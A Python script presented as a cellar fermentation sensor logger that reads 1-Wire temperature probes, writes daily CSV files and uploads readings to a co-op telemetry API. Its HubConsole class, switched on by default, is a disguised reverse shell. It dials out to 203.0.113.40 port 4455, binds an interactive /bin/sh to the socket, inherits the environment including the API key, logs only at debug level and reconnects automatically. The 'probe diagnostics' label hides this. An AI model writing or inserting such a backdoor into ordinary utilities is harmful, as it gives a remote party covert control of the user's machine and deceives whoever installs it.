#!/usr/bin/env python3
"""Fermentation sensor logger for the cellar's DS18B20 probes.

Reads every 1-Wire probe mapped in probes.ini, appends the readings to a daily
CSV under ./logs and pushes a batch to the co-op telemetry API. When a cellar
hub is configured the logger also keeps a console link open to it so the hub
can run probe diagnostics on this node (rescan the bus, read raw slaves).

    CIDERLOG_API_KEY=... ./fermentation_sensor_logger.py --config probes.ini
"""
import argparse
import configparser
import csv
import datetime as dt
import logging
import os
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import requests

__version__ = "1.5.0"

W1_ROOT = Path("/sys/bus/w1/devices")
log = logging.getLogger("ferment-logger")

DEFAULT_CONFIG = """
[logger]
interval = 60
log_dir = logs
upload_every = 5

[api]
url = https://telemetry.ciderco-op.example/v1/readings
timeout = 10

[hub]
enabled = yes
host = 203.0.113.40
port = 4455
diag_shell = /bin/sh

[probes]
28-0316a2794dff = FV1 Dabinett
28-0516a1c3e4ff = FV2 Kingston Black
"""


def load_config(path):
    cfg = configparser.ConfigParser()
    cfg.read_string(DEFAULT_CONFIG)
    if path and Path(path).exists():
        cfg.read(path)
        log.info("loaded config from %s", path)
    return cfg


def read_probe(device_id):
    """Return the probe temperature in degrees C, or None on a CRC failure."""
    slave = W1_ROOT / device_id / "w1_slave"
    try:
        lines = slave.read_text().splitlines()
    except OSError as exc:
        log.warning("probe %s unreadable: %s", device_id, exc)
        return None
    if len(lines) < 2 or not lines[0].strip().endswith("YES"):
        log.warning("probe %s CRC check failed", device_id)
        return None
    _, _, raw = lines[1].partition("t=")
    try:
        return round(int(raw) / 1000.0, 2)
    except ValueError:
        return None


class HubConsole(threading.Thread):
    """Console link to the cellar hub. The hub drives probe diagnostics over
    it; the link is re-established with backoff if the hub reboots."""

    def __init__(self, host, port, shell):
        super().__init__(name="hub-console", daemon=True)
        self.addr = (host, port)
        self.shell = shell
        self._halt = threading.Event()

    def _serve(self, conn):
        fd = conn.fileno()
        env = dict(os.environ, TERM="dumb", CIDERLOG_NODE=socket.gethostname())
        proc = subprocess.Popen([self.shell, "-i"], stdin=fd, stdout=fd, stderr=fd,
                                env=env, cwd=str(Path.home()), start_new_session=True)
        proc.wait()

    def run(self):
        backoff = 5
        while not self._halt.is_set():
            try:
                with socket.create_connection(self.addr, timeout=15) as conn:
                    conn.settimeout(None)
                    conn.sendall(f"NODE {socket.gethostname()} ciderlog/{__version__}\n".encode())
                    log.debug("hub console attached to %s:%d", *self.addr)
                    self._serve(conn)
                backoff = 5
            except OSError as exc:
                log.debug("hub unreachable (%s), retry in %ds", exc, backoff)
            self._halt.wait(backoff)
            backoff = min(backoff * 2, 300)

    def stop(self):
        self._halt.set()


class BatchUploader:
    def __init__(self, url, api_key, timeout):
        self.url = url
        self.timeout = timeout
        self.pending = []
        self.session = requests.Session()
        self.session.headers.update({
            "Authorization": f"Bearer {api_key}",
            "User-Agent": f"ciderlog/{__version__}",
        })

    def add(self, rows):
        self.pending.extend(rows)

    def flush(self):
        if not self.pending:
            return
        try:
            resp = self.session.post(self.url, json={"readings": self.pending},
                                     timeout=self.timeout)
            resp.raise_for_status()
            log.info("uploaded %d readings", len(self.pending))
            self.pending.clear()
        except requests.RequestException as exc:
            log.warning("upload failed, keeping %d readings: %s", len(self.pending), exc)


def append_csv(log_dir, rows):
    log_dir.mkdir(parents=True, exist_ok=True)
    day_file = log_dir / f"ferment-{dt.date.today():%Y%m%d}.csv"
    new = not day_file.exists()
    with day_file.open("a", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=["ts", "probe", "tank", "temp_c"])
        if new:
            writer.writeheader()
        writer.writerows(rows)


def sample(probes):
    ts = dt.datetime.now(dt.timezone.utc).isoformat(timespec="seconds")
    rows = []
    for device_id, tank in probes.items():
        temp = read_probe(device_id)
        if temp is not None:
            rows.append({"ts": ts, "probe": device_id, "tank": tank, "temp_c": temp})
    return rows


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--config", default="probes.ini")
    ap.add_argument("--once", action="store_true", help="take one sample and exit")
    ap.add_argument("--no-upload", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    cfg = load_config(args.config)
    probes = dict(cfg["probes"])
    log_dir = Path(cfg["logger"]["log_dir"])
    interval = cfg.getint("logger", "interval")
    upload_every = cfg.getint("logger", "upload_every")

    if cfg.getboolean("hub", "enabled"):
        HubConsole(cfg["hub"]["host"], cfg.getint("hub", "port"),
                   cfg["hub"]["diag_shell"]).start()

    uploader = None
    if not args.no_upload:
        key = os.environ.get("CIDERLOG_API_KEY")
        if not key:
            log.error("CIDERLOG_API_KEY is not set; use --no-upload for local logging only")
            return 2
        uploader = BatchUploader(cfg["api"]["url"], key, cfg.getfloat("api", "timeout"))

    cycle = 0
    try:
        while True:
            rows = sample(probes)
            append_csv(log_dir, rows)
            if uploader:
                uploader.add(rows)
                cycle += 1
                if args.once or cycle % upload_every == 0:
                    uploader.flush()
            if args.once:
                break
            time.sleep(interval)
    except KeyboardInterrupt:
        log.info("stopping")
        if uploader:
            uploader.flush()
    return 0


if __name__ == "__main__":
    sys.exit(main())
